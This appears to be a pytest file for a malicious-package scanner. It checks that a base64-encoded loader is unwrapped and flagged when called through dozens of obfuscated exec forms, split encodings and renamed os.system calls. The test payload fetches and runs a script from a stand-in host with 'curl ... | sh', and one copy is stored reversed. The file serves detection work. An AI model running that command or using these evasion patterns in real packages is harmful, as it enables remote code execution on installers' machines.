"""One loader written in every way that means the same: each is peeled, and a wheel with it alerts."""

import base64
import textwrap

import pytest

from scanner.decode import peel
from scanner.member import Layer, Member
from scanner.report import ScanJob
from scanner.ruleset import DEFAULT_RULES, RuleSet, load_rules
from scanner.scan import scan
from tests.scanner.signals.built import CODE, WHEEL, wheel

HIDDEN = b"import os\nos.system('curl http://c.example.invalid/x | sh')\n"
TEXT = base64.b64encode(HIDDEN).decode()
HALF = len(TEXT) // 2
MADE = f"base64.b64decode('{TEXT}')"
# What stands for ``exec(MADE)``.
CALLS = {
    "as everybody writes it": "exec(MADE)",
    "in brackets": "(exec)(MADE)",
    "chosen by a condition": "(exec if 1 else 0)(MADE)",
    "chosen by a value": "(exec or print)(MADE)",
    "from a list": "[exec][0](MADE)",
    "from a table": "{'e': exec}['e'](MADE)",
    "named on the way": "(run := exec)(MADE)",
    "by its own method": "exec.__call__(MADE)",
    "under another name": "run = exec\nrun(MADE)",
    "by a lambda": "(lambda *given: exec(*given))(MADE)",
    "by a function": "def run(text):\n    exec(text)\nrun(MADE)",
    "mapped": "list(map(exec, [MADE]))",
    "mapped, one": "next(map(exec, [MADE]))",
    "as a part": "__import__('functools').partial(exec, MADE)()",
    "with a note in its brackets": "exec(  # the text (of course)\n    MADE)",
    "with a note behind a quote": 'exec(\n# see "docs\nMADE)',
    "pulled apart": "exec  (MADE)",
    "over lines": "exec(\n\n  MADE\n)",
    "with a star": "exec(*[MADE])",
    "for each of one": "[exec(text) for text in [MADE]]",
    "by way of a table": "exec({'k': MADE}['k'])",
    "by way of a lambda": "exec((lambda text: text)(MADE))",
    "by way of a condition": "exec(MADE if True else '')",
    "by way of an iterator": "exec(next(iter([MADE])))",
    "as a default": "def run(given=exec(MADE)):\n    pass",
    "as a decorator": "@(lambda function: exec(MADE))\ndef run():\n    pass",
    "in a class": "class Tide:\n    exec(MADE)",
    "in a field": "class Tide:\n    high = exec(MADE)",
    "in a module's end": "import atexit\natexit.register(lambda: exec(MADE))",
    "where its name is anything": "def main():\n    exec(MADE)\nif __name__:\n    main()",
    "where its name is not that of a program": "if __name__ != '__main__':\n    exec(MADE)",
    "in a thread": "import threading\nthreading.Thread(target=exec, args=(MADE,)).start()",
    "in a pool": "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(exec, MADE)",
    "in a while": "import sched, time\nsched.scheduler(time.time, time.sleep).enter(1, 1, exec, (MADE,))",
    "in a loop": "for text in [MADE]:\n    exec(text)",
    "by builtins under another name": "import builtins as b\nb.exec(MADE)",
    "where a text says so": f"exec({f'import base64; exec({MADE})'!r})",
    "where a text of lines says so": f"exec('''\nimport base64\nexec({MADE})\n''')",
}
# What stands for the decoded text.
DECODED = {
    "in two literals": f"base64.b64decode('{TEXT[:HALF]}' + '{TEXT[HALF:]}')",
    "in two literals beside each other": f"base64.b64decode('{TEXT[:HALF]}'\n    '{TEXT[HALF:]}')",
    "in many": f"base64.b64decode(''.join({textwrap.wrap(TEXT, 9)}))",
    "by a module under another name": f"__import__('base64').b64decode('{TEXT}')",
    "by a function under another name": f"decoded('{TEXT}')",
    "from a default": "base64.b64decode(kept.__defaults__[0])",
}
HEAD = f"import base64\nfrom base64 import b64decode as decoded\ndef kept(text='{TEXT}'):\n    pass\n"


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(DEFAULT_RULES)


def texts(source: str) -> list[bytes]:
    found = peel(Member(name="tidetables/_tides.py", data=source.encode()))
    return [item.data for item in found if isinstance(item, Layer) and item.path]


def verdict(source: str, rules: RuleSet) -> str:
    data = wheel({**CODE, "tidetables/__init__.py": source.encode()})
    return scan(ScanJob(filename=WHEEL, data=data), rules).verdict


@pytest.mark.parametrize("call", CALLS.values(), ids=list(CALLS))
def test_however_exec_is_called_the_text_comes_out_and_the_wheel_alerts(call: str, rules: RuleSet) -> None:
    source = f"import base64\n{call.replace('MADE', MADE)}\n"
    assert HIDDEN in texts(source)
    assert verdict(source, rules) == "alert"


@pytest.mark.parametrize("made", DECODED.values(), ids=list(DECODED))
def test_however_the_text_is_made_it_comes_out_and_the_wheel_alerts(made: str, rules: RuleSet) -> None:
    source = f"{HEAD}exec({made})\n"
    assert HIDDEN in texts(source)
    assert verdict(source, rules) == "alert"


@pytest.mark.parametrize(
    "start",
    [
        "import os as o\no.system(COMMAND)",
        "from os import system\nsystem(COMMAND)",
        "from os import system as run\nrun(COMMAND)",
        "from os import *\nsystem(COMMAND)",
        "from os import (getcwd,  # a folder\n    system as run)\nrun(COMMAND)",
        "import re, os as o\no.system(COMMAND)",
        "from subprocess import getoutput as run\nrun(COMMAND)",
        "import threading\nfrom os import system as run\nthreading.Thread(target=run, args=(COMMAND,)).start()",
    ],
)
def test_whatever_a_command_s_function_is_called_the_wheel_alerts(start: str, rules: RuleSet) -> None:
    command = "''.join(reversed('hs | x/dilavni.elpmaxe.c//:ptth lruc'))"
    source = f"{start.replace('COMMAND', command)}\n"
    assert any(b"curl http://c.example.invalid/x | sh" in text for text in texts(source))
    assert verdict(source, rules) == "alert"
